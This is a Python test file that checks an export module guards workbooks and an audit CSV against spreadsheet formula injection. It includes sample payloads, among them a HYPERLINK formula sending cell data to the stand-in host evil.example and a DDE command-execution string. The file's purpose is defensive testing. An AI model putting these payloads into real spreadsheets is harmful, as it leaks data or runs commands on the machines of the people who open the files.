"""Text a person typed is data: never a formula in a workbook, guarded in audit.csv."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest

from export.audit import spreadsheet_safe, write_audit
from export.step13 import write_step13
from export.xlsx import keep_text_as_data, new_workbook
from review.decisions import transcribe
from tests.stored_case import stored_case

#: Texts a reviewer might type (or paste) that a spreadsheet would run.
FORMULAS = ("=1+2", '=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+1+2", "-1+2", "@SUM(A1)",
            "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0")
REGION = "1:sessie:taalgebruik:toelichting"


@pytest.mark.parametrize("text", FORMULAS)
def test_spreadsheet_safe_prefixes_formula_starts(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["Sluit aan bij moeder.", "-2", "3.5", "", "a=1", "'al een apostrof"])
def test_spreadsheet_safe_leaves_plain_text_and_numbers(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_workbook_never_holds_a_formula() -> None:
    wb = new_workbook("t")
    ws = wb.create_sheet("s")
    for n, text in enumerate(FORMULAS, start=1):
        ws.cell(row=n, column=1, value=text)
    assert ws.cell(row=1, column=1).data_type == "f"  # what openpyxl does on its own
    assert keep_text_as_data(wb) >= 1
    assert all(ws.cell(row=n, column=1).data_type == "s" for n in range(1, len(FORMULAS) + 1))


def test_transcription_formula_is_text_in_step13_and_audit(tmp_path: Path) -> None:
    case = stored_case(tmp_path / "softa.sqlite", seed=4)
    conn, cid = case.conn, case.manifest.case
    text = FORMULAS[1]
    version = conn.execute("SELECT version FROM region_values WHERE region_id = ?", (REGION,)).fetchone()[0]
    transcribe(conn, cid, REGION, text, version, "=1+2")
    result = write_step13(conn, cid, tmp_path / "out")
    for path in result.files:
        with zipfile.ZipFile(path) as book:
            sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
            assert not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets), path.name
        wb = openpyxl.load_workbook(path)
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]
        if cells:
            assert all(c.data_type == "s" for c in cells)
    behaviour = openpyxl.load_workbook(result.files[2])["Toelichting en momenten"]
    assert text in [r[2] for r in behaviour.iter_rows(min_row=2, values_only=True)]
    audit = write_audit(conn, tmp_path / "audit.csv")
    with audit.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    typed = next(r for r in rows if r["action"] == "transcribe")
    assert typed["to"] == "'" + text and typed["who"] == "'=1+2"
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
